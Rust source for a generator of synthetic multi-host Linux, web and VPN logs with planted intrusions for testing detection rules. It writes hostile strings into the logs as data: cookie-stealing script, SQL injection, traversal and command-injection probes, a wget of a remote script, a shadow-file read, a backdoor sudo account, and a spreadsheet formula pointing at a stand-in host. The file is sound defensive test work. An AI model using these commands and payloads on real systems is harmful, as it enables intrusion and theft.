//! The bundled sample: four hosts over four weeks (2025-12-08 → 2026-01-04, across New Year):
//! `web01` (Ubuntu: auth.log, syslog, ufw.log, apache2, a JSON app log; numbered rotation,
//! gzip), `db01` (RHEL with rsyslog's ISO timestamps: secure, messages, a CRLF VPN CSV export;
//! dated rotation, xz/bz2/zstd, and auditd's audit.log), `gw01` (an RFC 5424 collector file)
//! and `app01` (Debian 12 with no auth.log: its journal, collected as `journalctl -o export`). Background traffic has
//! a daily rhythm; on top of it the incidents listed in [`planted`] are written in.

use std::path::Path;

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

use super::linux::{Audit, Journal};
use super::utc;
use super::write::{self, apache_time, iso_z, syslog_line, Codec, Generation, LogFile, Style};

/// One planted incident and the finding it should (or must not) produce.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Planted {
    pub rule: &'static str,
    pub host: Option<&'static str>,
    pub ip: Option<&'static str>,
    pub user: Option<&'static str>,
    /// false: a near miss that must not fire.
    pub fires: bool,
    pub note: &'static str,
}

pub const BRUTE_IP: &str = "203.0.113.45";
pub const SLIDING_IP: &str = "198.51.100.77";
pub const SLOW_IP: &str = "192.0.2.200";
pub const FOUR_IP: &str = "192.0.2.201";
pub const SPRAY_IP: &str = "203.0.113.99";
pub const INTRUDER_IP: &str = "198.51.100.23";
pub const PRIV_IP: &str = "203.0.113.200";
pub const GOBUSTER_IP: &str = "203.0.113.150";
pub const ADMIN_IP: &str = "10.0.0.9";
pub const WEB01_IP: &str = "10.0.0.5";
pub const DB01_IP: &str = "10.0.0.6";

/// What the sample holds, for the end-to-end tests of the detectors.
pub fn planted() -> Vec<Planted> {
    let p = |rule, host, ip, user, fires, note| Planted { rule, host, ip, user, fires, note };
    vec![
        p(
            "ssh_bruteforce",
            Some("web01"),
            Some(BRUTE_IP),
            Some("root"),
            true,
            "40 failed root passwords in 8 minutes (sshd + PAM lines for each)",
        ),
        p(
            "ssh_bruteforce",
            Some("web01"),
            Some(SLIDING_IP),
            None,
            true,
            "4 failures at 10:25 and 4 at 10:35: fires only with a sliding window",
        ),
        p("ssh_bruteforce", Some("web01"), Some(SLOW_IP), None, false, "5 failures spread over 3 hours"),
        p(
            "ssh_bruteforce",
            Some("web01"),
            Some(FOUR_IP),
            None,
            false,
            "4 failures in 5 minutes, one under the threshold",
        ),
        p(
            "password_spraying",
            Some("db01"),
            Some(SPRAY_IP),
            None,
            true,
            "25 user names, 1-2 attempts each, over 5 hours",
        ),
        p(
            "success_after_failures",
            Some("web01"),
            Some(INTRUDER_IP),
            Some("deploy"),
            true,
            "12 failures then Accepted password for deploy",
        ),
        p(
            "success_after_failures",
            Some("web01"),
            Some(ADMIN_IP),
            Some("alice"),
            false,
            "alice mistypes twice, then logs in",
        ),
        p(
            "privileged_target",
            Some("web01"),
            Some(PRIV_IP),
            Some("root"),
            true,
            "root, admin, administrator, oracle, postgres, ubuntu",
        ),
        p(
            "account_change",
            Some("web01"),
            None,
            Some("backdoor"),
            true,
            "useradd backdoor + sudo group right after the intrusion (high)",
        ),
        p("account_change", Some("db01"), None, Some("carol"), true, "alice creates carol during office hours (low)"),
        p("sudo_activity", Some("web01"), None, Some("bob"), true, "3 incorrect sudo passwords, then not in sudoers"),
        p("sudo_activity", Some("web01"), None, Some("deploy"), true, "sudo /bin/bash and wget by the intruder"),
        p("web_scan", Some("web01"), Some(GOBUSTER_IP), None, true, "gobuster: 300 missing paths in 5 minutes"),
        p("web_scan", Some("web01"), Some(INTRUDER_IP), None, true, "Nikto user agent"),
        p(
            "web_attack",
            Some("web01"),
            Some(INTRUDER_IP),
            None,
            true,
            "SQL injection, traversal, .env/.git probes, XSS",
        ),
        p("port_scan", Some("web01"), Some(INTRUDER_IP), None, true, "40 destination ports in 2 minutes"),
        p(
            "volume_anomaly",
            Some("web01"),
            Some(INTRUDER_IP),
            None,
            true,
            "2 GB of responses in 20 minutes (exfiltration)",
        ),
        p(
            "rare_event",
            Some("web01"),
            Some(INTRUDER_IP),
            Some("deploy"),
            true,
            "deploy logs in from an address never seen for deploy",
        ),
        p("log_integrity", Some("db01"), None, None, true, "no CRON lines for 3 hours after rsyslog was stopped"),
        p(
            "ssh_bruteforce",
            Some("app01"),
            Some(INTRUDER_IP),
            Some("deploy"),
            true,
            "journal-only Debian 12 host (journalctl -o export): 8 tries for deploy an hour before web01",
        ),
        p(
            "process_activity",
            Some("db01"),
            Some(WEB01_IP),
            None,
            true,
            "auditd: deploy's sudo systemctl stop rsyslog in the session opened from web01",
        ),
        p("log_integrity", Some("web01"), None, None, true, "syslog.2.gz missing between syslog.1 and syslog.3.gz"),
        p("log_integrity", Some("db01"), None, None, true, "timestamps jump back 2 hours inside messages"),
        p("log_integrity", Some("web01"), None, None, true, "apache2/access.log.3.gz is truncated"),
        p("log_integrity", Some("web01"), None, None, true, "mail.log truncated to zero bytes"),
        p("cross_source", None, Some(INTRUDER_IP), None, true, "firewall, web, ssh (web01) and VPN (db01)"),
        p("cross_source", None, Some(BRUTE_IP), None, true, "ssh brute force and web app credential stuffing"),
        p(
            "attack_chain",
            Some("web01"),
            Some(INTRUDER_IP),
            Some("deploy"),
            true,
            "brute force → login → sudo → new account → crontab → download → lateral move to db01",
        ),
    ]
}

const START: (i64, u32, u32) = (2025, 12, 8);
const DAYS: i64 = 28;

fn start() -> i64 {
    utc(START.0, START.1, START.2, 0, 0, 0)
}
fn end() -> i64 {
    start() + DAYS * 86_400
}
fn rotations() -> [i64; 3] {
    [utc(2025, 12, 15, 6, 25, 0), utc(2025, 12, 22, 6, 25, 0), utc(2025, 12, 29, 6, 25, 0)]
}

const SURNAMES: &[&str] = &[
    "admin",
    "test",
    "user",
    "oracle",
    "postgres",
    "ubuntu",
    "guest",
    "ftpuser",
    "git",
    "pi",
    "support",
    "mysql",
    "www",
    "nagios",
    "hadoop",
    "tomcat",
    "jenkins",
    "minecraft",
    "student",
    "demo",
    "backup",
    "operator",
    "info",
    "sales",
    "dev",
    "teamspeak",
    "vagrant",
    "deployer",
    "server",
    "apache",
    "elastic",
    "zabbix",
    "ansible",
];
const BROWSERS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
];
const PAGES: &[(&str, u32)] = &[
    ("/", 5120),
    ("/index.html", 5120),
    ("/css/site.css", 18_211),
    ("/js/app.js", 48_900),
    ("/img/logo.png", 7_342),
    ("/products", 12_004),
    ("/login", 3_022),
    ("/api/items", 2_210),
    ("/about", 4_400),
];

struct Gen {
    rng: ChaCha8Rng,
    web_auth: LogFile,
    web_syslog: LogFile,
    web_ufw: LogFile,
    web_access: LogFile,
    web_app: LogFile,
    db_secure: LogFile,
    db_messages: LogFile,
    db_vpn: LogFile,
    gw_log: LogFile,
    pid: u32,
    session: u32,
}

impl Gen {
    fn pid(&mut self) -> u32 {
        self.pid = 1000 + (self.pid + self.rng.random_range(3..400)) % 60_000;
        self.pid
    }
    fn port(&mut self) -> u32 {
        self.rng.random_range(32_768..61_000)
    }
    fn micros(&mut self) -> u32 {
        self.rng.random_range(0..1_000_000)
    }
    /// A line on web01 (BSD syslog).
    fn web(&mut self, file: Which, t: i64, prog: &str, pid: Option<u32>, msg: &str) {
        let line = syslog_line(Style::Bsd, t, 0, "web01", prog, pid, msg);
        match file {
            Which::Auth => self.web_auth.push(t, line),
            Which::Syslog => self.web_syslog.push(t, line),
            Which::Ufw => self.web_ufw.push(t, line),
        }
    }
    /// A line on db01 (rsyslog ISO).
    fn db(&mut self, file: Which, t: i64, prog: &str, pid: Option<u32>, msg: &str) {
        let us = self.micros();
        let line = syslog_line(Style::Iso, t, us, "db01", prog, pid, msg);
        match file {
            Which::Auth => self.db_secure.push(t, line),
            _ => self.db_messages.push(t, line),
        }
    }
    fn host(&mut self, host: Host, file: Which, t: i64, prog: &str, pid: Option<u32>, msg: &str) {
        match host {
            Host::Web => self.web(file, t, prog, pid, msg),
            Host::Db => self.db(file, t, prog, pid, msg),
        }
    }
    #[allow(clippy::too_many_arguments)] // one argument per field of the log line
    fn access(&mut self, t: i64, ip: &str, req: &str, status: u32, bytes: Option<u64>, referrer: &str, ua: &str) {
        let b = bytes.map_or("-".to_string(), |b| b.to_string());
        let line = format!("{ip} - - {} \"{req}\" {status} {b} \"{referrer}\" \"{ua}\"", apache_time(t));
        self.web_access.push(t, line);
    }

    /// sshd failure as Debian logs it: PAM line (first attempt of a connection) then sshd's.
    fn ssh_fail(&mut self, host: Host, t: i64, ip: &str, user: &str, invalid: bool, pam: bool) {
        let pid = self.pid();
        let port = self.port();
        if invalid {
            self.host(host, Which::Auth, t, "sshd", Some(pid), &format!("Invalid user {user} from {ip} port {port}"));
        } else if pam {
            let msg = format!("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user={user}");
            self.host(host, Which::Auth, t, "sshd", Some(pid), &msg);
        }
        let inv = if invalid { "invalid user " } else { "" };
        self.host(
            host,
            Which::Auth,
            t + 2,
            "sshd",
            Some(pid),
            &format!("Failed password for {inv}{user} from {ip} port {port} ssh2"),
        );
        self.host(
            host,
            Which::Auth,
            t + 3,
            "sshd",
            Some(pid),
            &format!("Received disconnect from {ip} port {port}:11: Bye Bye [preauth]"),
        );
    }

    fn ssh_login(&mut self, host: Host, t: i64, ip: &str, user: &str, method: &str) -> (u32, u32) {
        let pid = self.pid();
        let port = self.port();
        self.session += 1;
        let sid = self.session;
        let key = if method == "publickey" { ": ED25519 SHA256:Qm9vdGxlZ0Jhbmtz4nD0mK3yT0k3nF1ng3rpr1nt" } else { "" };
        self.host(
            host,
            Which::Auth,
            t,
            "sshd",
            Some(pid),
            &format!("Accepted {method} for {user} from {ip} port {port} ssh2{key}"),
        );
        let uid = match user {
            "alice" => 1000,
            "bob" => 1001,
            "deploy" => 1002,
            _ => 1003,
        };
        self.host(
            host,
            Which::Auth,
            t,
            "sshd",
            Some(pid),
            &format!("pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)"),
        );
        self.host(host, Which::Auth, t, "systemd-logind", Some(812), &format!("New session {sid} of user {user}."));
        (pid, port)
    }

    fn ssh_logout(&mut self, host: Host, t: i64, ip: &str, user: &str, pid: u32, port: u32) {
        self.host(
            host,
            Which::Auth,
            t,
            "sshd",
            Some(pid),
            &format!("Received disconnect from {ip} port {port}:11: disconnected by user"),
        );
        self.host(host, Which::Auth, t, "sshd", Some(pid), &format!("Disconnected from user {user} {ip} port {port}"));
        self.host(
            host,
            Which::Auth,
            t,
            "sshd",
            Some(pid),
            &format!("pam_unix(sshd:session): session closed for user {user}"),
        );
    }

    fn sudo(&mut self, host: Host, t: i64, user: &str, pwd: &str, cmd: &str) {
        let pid = self.pid();
        self.host(
            host,
            Which::Auth,
            t,
            "sudo",
            None,
            &format!("{user:>8} : TTY=pts/0 ; PWD={pwd} ; USER=root ; COMMAND={cmd}"),
        );
        let uid = if user == "alice" { 1000 } else { 1002 };
        self.host(
            host,
            Which::Auth,
            t,
            "sudo",
            Some(pid),
            &format!("pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid={uid})"),
        );
        self.host(host, Which::Auth, t + 1, "sudo", Some(pid), "pam_unix(sudo:session): session closed for user root");
    }
}

#[derive(Clone, Copy)]
enum Which {
    Auth,
    Syslog,
    Ufw,
}

#[derive(Clone, Copy)]
enum Host {
    Web,
    Db,
}

/// Activity factor by hour of day: quiet at night, busy in the afternoon.
fn diurnal(hour: i64) -> f64 {
    let x = (hour as f64 - 14.0) / 24.0 * std::f64::consts::TAU;
    0.25 + 0.75 * (0.5 + 0.5 * x.cos())
}

fn noise_ip(rng: &mut ChaCha8Rng) -> String {
    if rng.random_bool(0.5) {
        format!("192.0.2.{}", rng.random_range(1..180))
    } else {
        format!("198.51.100.{}", rng.random_range(128..250))
    }
}

fn web_client(rng: &mut ChaCha8Rng) -> String {
    format!("198.18.{}.{}", rng.random_range(0..4), rng.random_range(1..255))
}

fn background(g: &mut Gen) {
    let (s, e) = (start(), end());
    // CRON every 10 minutes on both hosts, hourly run-parts; db01 goes silent after rsyslog stop.
    let db_gap = (utc(2025, 12, 30, 2, 38, 30), utc(2025, 12, 30, 5, 41, 0));
    let mut t = s;
    while t < e {
        for host in [Host::Web, Host::Db] {
            if matches!(host, Host::Db) && t >= db_gap.0 && t < db_gap.1 {
                continue;
            }
            let pid = g.pid();
            let cmd = if t % 3600 == 17 * 60 {
                "cd / && run-parts --report /etc/cron.hourly"
            } else {
                "/usr/local/bin/healthcheck --quiet >/dev/null 2>&1"
            };
            g.host(
                host,
                Which::Auth,
                t,
                "CRON",
                Some(pid),
                "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
            );
            g.host(host, Which::Syslog, t, "CRON", Some(pid), &format!("(root) CMD ({cmd})"));
            g.host(host, Which::Auth, t + 1, "CRON", Some(pid), "pam_unix(cron:session): session closed for user root");
        }
        t += 600;
    }
    // Every day: admin work, deploys, internet noise, web traffic.
    for day in 0..DAYS {
        let d0 = s + day * 86_400;
        // alice: morning login to web01, apt update most days.
        let t = d0 + 8 * 3600 + 50 * 60 + g.rng.random_range(0..1200);
        let (pid, port) = g.ssh_login(Host::Web, t, ADMIN_IP, "alice", "publickey");
        if day % 2 == 0 {
            g.sudo(Host::Web, t + 120, "alice", "/home/alice", "/usr/bin/apt update");
        } else {
            g.sudo(Host::Web, t + 120, "alice", "/home/alice", "/usr/bin/systemctl status apache2");
        }
        g.ssh_logout(Host::Web, t + 900, ADMIN_IP, "alice", pid, port);
        // deploy: CI deploys to both hosts at 14:00 from the jump host.
        for host in [Host::Web, Host::Db] {
            let t = d0 + 14 * 3600 + g.rng.random_range(0..300);
            let (pid, port) = g.ssh_login(host, t, ADMIN_IP, "deploy", "publickey");
            g.ssh_logout(host, t + 40, ADMIN_IP, "deploy", pid, port);
        }
        // Internet noise against sshd: a handful of attempts per address, never a burst.
        for host in [Host::Web, Host::Db] {
            let n = if matches!(host, Host::Web) { 30 } else { 15 };
            for _ in 0..n {
                let ip = noise_ip(&mut g.rng);
                let mut t = d0 + g.rng.random_range(0..86_000);
                for _ in 0..g.rng.random_range(1..=2) {
                    let user = SURNAMES[g.rng.random_range(0..SURNAMES.len())];
                    let invalid = user != "root" && g.rng.random_bool(0.8);
                    g.ssh_fail(host, t, &ip, user, invalid, true);
                    t += g.rng.random_range(60..900);
                }
            }
        }
        // Firewall noise on web01: a few blocked ports per address.
        for _ in 0..70 {
            let ip = noise_ip(&mut g.rng);
            let t = d0 + g.rng.random_range(0..86_000);
            for k in 0..g.rng.random_range(1..4) {
                let port = [23, 445, 3389, 8080, 5900, 1433, 6379, 9200, 2375, 5060][g.rng.random_range(0..10)];
                ufw(g, t + k * 7, &ip, port);
            }
        }
        // Web traffic with a daily rhythm.
        for hour in 0..24 {
            let n = (36.0 * diurnal(hour)) as u32;
            for _ in 0..n {
                let t = d0 + hour * 3600 + g.rng.random_range(0..3600);
                let ip = web_client(&mut g.rng);
                let (page, size) = PAGES[g.rng.random_range(0..PAGES.len())];
                let ua = BROWSERS[g.rng.random_range(0..BROWSERS.len())];
                let r: f64 = g.rng.random();
                let (status, bytes) = if r < 0.86 {
                    (200, Some(size as u64 + g.rng.random_range(0..200)))
                } else if r < 0.97 {
                    (304, None)
                } else {
                    (404, Some(209))
                };
                let (req, referrer) = if page == "/products" {
                    (format!("GET /products?page={} HTTP/1.1", g.rng.random_range(1..30)), "https://shop.example.com/")
                } else {
                    (format!("GET {page} HTTP/1.1"), "-")
                };
                g.access(t, &ip, &req, status, bytes, referrer, ua);
            }
        }
        // Web app logins (JSON lines).
        for _ in 0..80 {
            let t = d0 + 7 * 3600 + g.rng.random_range(0..14 * 3600);
            let ip = web_client(&mut g.rng);
            let user = format!("customer{}", g.rng.random_range(100..400));
            let ok = g.rng.random_bool(0.93);
            app_login(g, t, &ip, &user, ok);
        }
        // VPN logins on db01's concentrator export (CSV).
        for _ in 0..12 {
            let t = d0 + 7 * 3600 + g.rng.random_range(0..11 * 3600);
            let user = ["alice", "bob", "carol", "dave", "erin"][g.rng.random_range(0..5)];
            let ip = format!("100.64.{}.{}", g.rng.random_range(0..8), g.rng.random_range(1..255));
            let ok = g.rng.random_bool(0.95);
            vpn(g, t, user, &ip, ok);
        }
        // gw01: the jump host (RFC 5424 collector file).
        let t = d0 + 8 * 3600 + 40 * 60 + g.rng.random_range(0..600);
        let line = syslog_line(Style::Rfc5424, t, 120_000, "gw01", "sshd", Some(3300 + day as u32), "Accepted publickey for alice from 10.0.50.14 port 50122 ssh2: ED25519 SHA256:Qm9vdGxlZ0Jhbmtz4nD0mK3yT0k3nF1ng3rpr1nt");
        g.gw_log.push(t, line);
        let mut t2 = d0;
        while t2 < d0 + 86_400 {
            let line = syslog_line(
                Style::Rfc5424,
                t2,
                5_000,
                "gw01",
                "CRON",
                Some(7000 + (t2 / 3600 % 1000) as u32),
                "(root) CMD (/usr/lib/sysstat/debian-sa1 1 1)",
            );
            g.gw_log.push(t2, line);
            t2 += 3600;
        }
    }
    // A few lines real servers write, including one with invalid UTF-8 (a USB product string).
    let t = utc(2025, 12, 23, 11, 2, 9);
    let mut raw = b"Dec 23 11:02:09 web01 kernel: [1209331.551203] usb 1-1: Product: ".to_vec();
    raw.extend_from_slice(&[0xff, 0xfe, b'U', b'S', b'B', b' ', 0xc3, 0x28]);
    g.web_syslog.push_bytes(t, raw);
    g.web(
        Which::Syslog,
        t + 1,
        "kernel",
        None,
        "[1209331.551990] usb-storage 1-1:1.0: USB Mass Storage device detected",
    );
}

fn ufw(g: &mut Gen, t: i64, ip: &str, port: u32) {
    let up = (t - start()) as f64 + 86_400.0 * 14.0;
    let id = g.rng.random_range(1000..65_000);
    let spt = g.port();
    let msg = format!(
        "[{up:.6}] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:8a:11:02:52:54:00:01:02:03:08:00 SRC={ip} DST={WEB01_IP} LEN=44 TOS=0x00 PREC=0x00 TTL=241 ID={id} PROTO=TCP SPT={spt} DPT={port} WINDOW=1024 RES=0x00 SYN URGP=0"
    );
    g.web(Which::Ufw, t, "kernel", None, &msg);
}

fn app_login(g: &mut Gen, t: i64, ip: &str, user: &str, ok: bool) {
    let ms = g.rng.random_range(0..1000);
    let outcome = if ok { "success" } else { "failure" };
    let level = if ok { "info" } else { "warn" };
    let trace: u64 = g.rng.random();
    let user_json = serde_json::to_string(user).expect("string serializes");
    let line = format!(
        r#"{{"ts":"{}","level":"{level}","service":"shop","event":{{"action":"login","outcome":"{outcome}"}},"user":{{"name":{user_json}}},"source":{{"ip":"{ip}"}},"trace_id":"{trace:016x}"}}"#,
        iso_z(t, ms)
    );
    g.web_app.push(t, line);
}

fn vpn(g: &mut Gen, t: i64, user: &str, ip: &str, ok: bool) {
    let (y, m, d, hh, mm, ss) = write::ymdhms(t);
    g.db_vpn.push(t, format!("{y:04}-{m:02}-{d:02}T{hh:02}:{mm:02}:{ss:02}Z,{user},{ip},10.8.0.1,login,{ok}"));
}

fn incidents(g: &mut Gen) {
    // 1. Fast brute force against root on web01, PAM + sshd line per attempt.
    let t0 = utc(2025, 12, 10, 3, 12, 5);
    for i in 0..40 {
        g.ssh_fail(Host::Web, t0 + i * 12, BRUTE_IP, "root", false, true);
    }
    // ... and credential stuffing against the web app from the same address.
    for i in 0..30 {
        let user = format!("customer{}", 500 + i * 7);
        app_login(g, t0 + 1100 + i * 5, BRUTE_IP, &user, false);
    }
    // 2. Sliding window: 4 at 10:25, 4 at 10:35.
    for (i, t) in [(0, utc(2025, 12, 16, 10, 25, 0)), (1, utc(2025, 12, 16, 10, 35, 0))] {
        for k in 0..4 {
            g.ssh_fail(Host::Web, t + k * 30, SLIDING_IP, if i == 0 { "admin" } else { "root" }, i == 0, true);
        }
    }
    // 3. Near misses: 5 over three hours; 4 in five minutes.
    for k in 0..5 {
        g.ssh_fail(Host::Web, utc(2025, 12, 17, 9, 0, 0) + k * 2700, SLOW_IP, "root", false, true);
    }
    for k in 0..4 {
        g.ssh_fail(Host::Web, utc(2025, 12, 17, 15, 0, 0) + k * 70, FOUR_IP, "root", false, true);
    }
    // 4. Password spraying on db01: 25 names, 1-2 tries each, over 5 hours.
    let t0 = utc(2025, 12, 20, 1, 0, 0);
    for i in 0..25 {
        let user = SURNAMES[i % SURNAMES.len()];
        let t = t0 + i as i64 * 700;
        g.ssh_fail(Host::Db, t, SPRAY_IP, user, user != "root", true);
        if i % 3 == 0 {
            g.ssh_fail(Host::Db, t + 200, SPRAY_IP, user, user != "root", true);
        }
    }
    // 5. Privileged accounts targeted.
    let t0 = utc(2025, 12, 19, 4, 0, 0);
    for (i, user) in ["root", "admin", "administrator", "oracle", "postgres", "ubuntu"].iter().enumerate() {
        for k in 0..2 {
            g.ssh_fail(Host::Web, t0 + i as i64 * 600 + k * 240, PRIV_IP, user, *user != "root", true);
        }
    }
    // 6. bob's sudo trouble; alice mistyping her password twice before logging in.
    let t = utc(2025, 12, 19, 10, 14, 0);
    let (pid, port) = g.ssh_login(Host::Web, t, "10.0.0.12", "bob", "password");
    g.web(Which::Auth, t + 60, "sudo", Some(pid + 1), "pam_unix(sudo:auth): authentication failure; logname=bob uid=1001 euid=0 tty=/dev/pts/1 ruser=bob rhost=  user=bob");
    g.web(Which::Auth, t + 75, "sudo", None, "     bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow");
    g.web(
        Which::Auth,
        t + 140,
        "sudo",
        None,
        "     bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash",
    );
    g.ssh_logout(Host::Web, t + 300, "10.0.0.12", "bob", pid, port);
    let t = utc(2025, 12, 18, 8, 40, 0);
    g.ssh_fail(Host::Web, t, ADMIN_IP, "alice", false, true);
    g.ssh_fail(Host::Web, t + 20, ADMIN_IP, "alice", false, true);
    let (pid, port) = g.ssh_login(Host::Web, t + 45, ADMIN_IP, "alice", "password");
    g.ssh_logout(Host::Web, t + 400, ADMIN_IP, "alice", pid, port);
    // 7. Benign account creation on db01 by alice in office hours.
    let t = utc(2025, 12, 17, 11, 3, 0);
    let (pid, port) = g.ssh_login(Host::Db, t, ADMIN_IP, "alice", "publickey");
    g.sudo(Host::Db, t + 60, "alice", "/home/alice", "/usr/sbin/useradd -m carol");
    g.db(Which::Auth, t + 61, "useradd", Some(pid + 3), "new group: name=carol, GID=1004");
    g.db(
        Which::Auth,
        t + 61,
        "useradd",
        Some(pid + 3),
        "new user: name=carol, UID=1004, GID=1004, home=/home/carol, shell=/bin/bash, from=/dev/pts/0",
    );
    g.ssh_logout(Host::Db, t + 500, ADMIN_IP, "alice", pid, port);
    // 8. gobuster run: 300 missing paths in five minutes, with a hostile user agent copy.
    let t0 = utc(2025, 12, 21, 16, 0, 0);
    for i in 0..300 {
        let word = ["admin", "backup", "old", "test", "dev", "api", "v1", "private", "config", "uploads"][i % 10];
        let req = format!("GET /{word}{i} HTTP/1.1");
        g.access(t0 + i as i64, GOBUSTER_IP, &req, 404, Some(209), "-", "gobuster/3.6");
    }
    g.access(
        t0 + 301,
        GOBUSTER_IP,
        "GET /search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E HTTP/1.1",
        200,
        Some(3100),
        "-",
        r#"\"><img src=x onerror=alert(document.domain)>"#,
    );

    // 9. The intrusion by INTRUDER_IP.
    // 9a. port scan against web01 two days before.
    let t0 = utc(2025, 12, 26, 22, 0, 0);
    let ports = [
        21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1521, 1723, 2049, 2375, 3000, 3306,
        3389, 5000, 5432, 5900, 6379, 8000, 8080, 8443, 8888, 9000, 9090, 9200, 9300, 10000, 11211, 27017, 50000,
        50070,
    ];
    for (i, p) in ports.iter().enumerate() {
        if *p != 22 && *p != 80 && *p != 443 {
            ufw(g, t0 + (i as i64 * 3), INTRUDER_IP, *p);
        }
    }
    // 9b. Nikto scan and injection attempts.
    let t0 = utc(2025, 12, 27, 9, 0, 0);
    let nikto = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)";
    let probes = [
        ("GET /.env HTTP/1.1", 404),
        ("GET /.git/config HTTP/1.1", 404),
        ("GET /wp-config.php.bak HTTP/1.1", 404),
        ("GET /index.php?page=..%2F..%2F..%2F..%2Fetc%2Fpasswd HTTP/1.1", 400),
        ("GET /products?id=1%27%20OR%20%271%27%3D%271 HTTP/1.1", 500),
        ("GET /products?id=1%2520UNION%2520SELECT%2520username,password%2520FROM%2520users HTTP/1.1", 500),
        ("GET /search?q=%3Cscript%3Edocument.location%3D%27http://198.51.100.23/c%3F%27%2Bdocument.cookie%3C/script%3E HTTP/1.1", 200),
        ("GET /cgi-bin/status?cmd=;cat%20/etc/passwd HTTP/1.1", 404),
        ("GET /../../../../etc/shadow HTTP/1.1", 400),
    ];
    for i in 0..150 {
        let (req, status) = if i % 10 == 0 { probes[(i / 10) % probes.len()] } else { ("", 404) };
        let req = if req.is_empty() { format!("GET /nikto-test-{i:03}.html HTTP/1.1") } else { req.to_string() };
        g.access(
            t0 + i as i64 * 2,
            INTRUDER_IP,
            &req,
            status,
            Some(if status == 200 { 3100 } else { 209 }),
            "-",
            nikto,
        );
    }
    // 9c. VPN probe on db01's concentrator.
    vpn(g, utc(2025, 12, 29, 23, 50, 0), "deploy", INTRUDER_IP, false);
    // 9d. SSH brute force against deploy, then success.
    let t0 = utc(2025, 12, 30, 2, 10, 0);
    for i in 0..12 {
        g.ssh_fail(Host::Web, t0 + i * 45, INTRUDER_IP, "deploy", false, true);
    }
    let t = utc(2025, 12, 30, 2, 21, 3);
    let (pid, port) = g.ssh_login(Host::Web, t, INTRUDER_IP, "deploy", "password");
    g.sudo(Host::Web, t + 120, "deploy", "/home/deploy", "/bin/bash");
    let t = t + 240;
    g.web(Which::Auth, t, "useradd", Some(pid + 9), "new group: name=backdoor, GID=1005");
    g.web(
        Which::Auth,
        t,
        "useradd",
        Some(pid + 9),
        "new user: name=backdoor, UID=1005, GID=1005, home=/home/backdoor, shell=/bin/bash, from=/dev/pts/0",
    );
    g.web(Which::Auth, t + 20, "usermod", Some(pid + 11), "add 'backdoor' to group 'sudo'");
    g.web(Which::Auth, t + 20, "usermod", Some(pid + 11), "add 'backdoor' to shadow group 'sudo'");
    g.web(Which::Auth, t + 35, "passwd", Some(pid + 12), "pam_unix(passwd:chauthtok): password changed for backdoor");
    g.web(Which::Auth, t + 80, "crontab", Some(pid + 14), "(root) BEGIN EDIT (root)");
    g.web(Which::Auth, t + 95, "crontab", Some(pid + 14), "(root) REPLACE (root)");
    g.web(Which::Auth, t + 95, "crontab", Some(pid + 14), "(root) END EDIT (root)");
    g.sudo(Host::Web, t + 150, "deploy", "/tmp", "/usr/bin/wget http://198.51.100.23/x.sh -O /tmp/.x.sh");
    // 9e. Lateral movement to db01 with deploy's key; shadow read; rsyslog stopped.
    let t = utc(2025, 12, 30, 2, 35, 12);
    let (dpid, dport) = g.ssh_login(Host::Db, t, WEB01_IP, "deploy", "publickey");
    g.sudo(Host::Db, t + 40, "deploy", "/home/deploy", "/bin/cat /etc/shadow");
    g.sudo(Host::Db, t + 190, "deploy", "/home/deploy", "/usr/bin/systemctl stop rsyslog");
    let _ = (dpid, dport);
    // 9f. Exfiltration over HTTP from web01: 2 GB in 20 minutes.
    let t0 = utc(2025, 12, 30, 2, 50, 0);
    for i in 0..4 {
        g.access(
            t0 + i * 300,
            INTRUDER_IP,
            &format!("GET /backup/db-2025-12-29.tar.gz.part{i} HTTP/1.1"),
            200,
            Some(536_870_912),
            "-",
            "curl/8.5.0",
        );
    }
    g.ssh_logout(Host::Web, utc(2025, 12, 30, 3, 15, 0), INTRUDER_IP, "deploy", pid, port);
    // Hostile strings as attackers really send them.
    let t = utc(2025, 12, 24, 5, 5, 5);
    g.ssh_fail(Host::Web, t, "192.0.2.66", "<script>alert(1)</script>", true, true);
    g.ssh_fail(Host::Web, t + 30, "192.0.2.66", "\u{1b}[31mroot\u{1b}[0m", true, true);
    app_login(g, t + 60, "192.0.2.66", "=HYPERLINK(\"http://evil.example/x\",\"click me\")", false);
    // Clock tampering on db01: twenty messages lines stamped two hours early.
    let t0 = utc(2025, 12, 31, 12, 0, 0);
    for i in 0..20 {
        let real = t0 + i * 30;
        let us = g.micros();
        let line = syslog_line(
            Style::Iso,
            real - 7200,
            us,
            "db01",
            "systemd",
            Some(1),
            "Started session-c3.scope - Session c3 of User root.",
        );
        g.db_messages.push(real, line);
    }
}

/// app01's journal (collected as `journalctl -o export`) and db01's `audit.log`, from their own
/// random stream so the older files of the sample stay as they were.
fn linux_evidence(seed: u64) -> (Journal, Audit) {
    let mut rng = ChaCha8Rng::seed_from_u64(seed ^ 0x006a_6f75_726e_616c);
    let (mut j, mut a) = (Journal::default(), Audit::default());
    let (s, e) = (start(), end());
    let mut pid = 2000u32;
    let mut next_pid = |rng: &mut ChaCha8Rng| {
